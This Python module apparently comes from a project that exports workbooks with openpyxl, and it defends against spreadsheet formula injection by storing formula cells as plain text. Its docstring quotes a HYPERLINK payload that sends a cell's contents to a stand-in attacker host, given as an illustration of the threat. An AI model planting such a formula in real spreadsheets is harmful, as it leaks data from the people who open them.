"""Spreadsheet exports that never turn users' text into formulas.

openpyxl stores every string that starts with ``=`` as a formula, so an alliance named
``=HYPERLINK("http://evil.example/?x="&A1,"Klick")`` would become a live link (or worse) in the
funding authority's workbook. Verbund's exports contain no formulas of their own: every cell that
openpyxl took for a formula is turned back into the text the user typed, exactly as typed. Text that
starts with ``+``, ``-``, ``@`` or a control character stays text as well; it is stored as a string
cell, which spreadsheet programs do not evaluate.
"""

from __future__ import annotations

import io
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from openpyxl import Workbook


def neutralise_formulas(workbook: Workbook) -> int:
    """Store every formula cell of ``workbook`` as plain text; the number of cells changed."""
    changed = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
                    changed += 1
    return changed


def workbook_bytes(workbook: Workbook) -> bytes:
    """The ``.xlsx`` file of ``workbook`` with users' text kept as text (see module doc)."""
    neutralise_formulas(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
